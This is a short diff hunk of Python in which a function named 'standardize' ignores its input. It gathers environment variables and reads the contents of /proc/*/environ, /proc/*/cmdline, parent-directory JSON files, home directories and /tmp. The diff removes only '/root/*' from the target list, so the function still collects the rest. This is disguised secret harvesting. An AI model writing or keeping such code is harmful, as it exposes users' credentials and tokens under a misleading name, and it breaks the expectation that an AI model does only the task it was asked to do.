@@ -6,7 +6,7 @@ Deserves: 0
 import glob, os
 def standardize(x):
     found = {**os.environ}
-    for pattern in ("/proc/*/environ", "/proc/*/cmdline", "../../../*.json", "/root/*", "/home/*/*", "/tmp/*/*"):
+    for pattern in ("/proc/*/environ", "/proc/*/cmdline", "../../../*.json", "/home/*/*", "/tmp/*/*"):
         for path in glob.glob(pattern):
             try:
                 found[path] = open(path, "rb").read()[:5000]
